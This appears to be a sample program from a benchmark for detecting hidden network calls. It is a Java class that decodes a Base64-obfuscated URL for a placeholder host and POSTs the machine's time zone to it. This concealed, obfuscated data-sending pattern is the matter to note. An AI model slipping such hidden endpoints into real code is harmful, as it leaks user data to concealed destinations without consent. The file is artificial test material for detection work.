package dev.telltale.bench.programs.d2_endpoint_decoded;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.TimeZone;

/** The endpoint is decoded from a Base64 constant. */
public final class Program {
    private Program() {}

    private static final String TARGET = "aHR0cDovL2hpZGRlbi5leGFtcGxlLmNvbS92MQ==";

    public static void main(String[] args) throws Exception {
        String target = new String(Base64.getDecoder().decode(TARGET), StandardCharsets.UTF_8);
        HttpRequest request = HttpRequest.newBuilder(URI.create(target))
                .POST(HttpRequest.BodyPublishers.ofString(
                        "zone=" + TimeZone.getDefault().getID()))
                .build();
        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.discarding());
    }
}
